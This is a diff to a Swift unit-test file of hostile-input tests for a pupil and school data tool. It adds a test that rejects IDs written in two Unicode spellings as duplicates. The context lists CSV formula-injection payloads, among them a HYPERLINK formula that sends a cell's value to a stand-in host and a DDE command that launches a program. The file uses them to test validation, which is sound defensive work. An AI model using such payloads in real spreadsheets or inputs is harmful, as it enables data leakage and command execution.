@@ -135,6 +135,35 @@ struct HostileInputTests {
     #expect(error.problems.map(\.line) == [3])
   }
 
+  /// Hostile trial, round twenty-one: `É` composed and `E` with a combining
+  /// accent passed as two settings (two pupils), while Swift's strings,
+  /// which key them after reading, hold them equal: a request for the
+  /// second was met at the first.
+  @Test("one id written in two Unicode spellings is refused as a duplicate, in settings, pupils and the roll")
+  func canonicallyEqualIdsAreOneId() throws {
+    let composed = "S\u{00C9}1"
+    let decomposed = "SE\u{0301}1"
+    #expect(composed == decomposed && Array(composed.utf8) != Array(decomposed.utf8))
+    let settings = InputCSVText.settings([["urn": composed], ["urn": decomposed]])
+    let pupils =
+      "pupil_id,easting,northing,age,primary_need,provision\n\(composed),450500,250500,9,ASD,special\n"
+      + "\(decomposed),450500,250500,9,ASD,special\n"
+    let roll =
+      "pupil_id,urn,easting,northing,age,primary_need,provision\n\(decomposed),100001,450500,250500,9,ASD,special\n"
+    for (file, text, line) in [("settings.csv", settings, 3), ("pupils.csv", pupils, 3)] {
+      let error = try InputCaseFiles.valid.with(file, text).without("travel.csv").failure()
+      #expect(
+        error.problems.contains {
+          $0.file == file && $0.line == line
+            && $0.found.contains("the same text as line 2's in other Unicode code points")
+        }, "\(error)")
+    }
+    let onRoll = try InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["pupil_id": composed]])).with(
+      "roll.csv", roll
+    ).without("travel.csv").failure()
+    #expect(onRoll.problems.contains { $0.file == "roll.csv" && $0.line == 2 && $0.field == "pupil_id" }, "\(onRoll)")
+  }
+
   static let formulas = ["=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
 
   @Test("ids that a spreadsheet would run as a formula are refused", arguments: formulas)
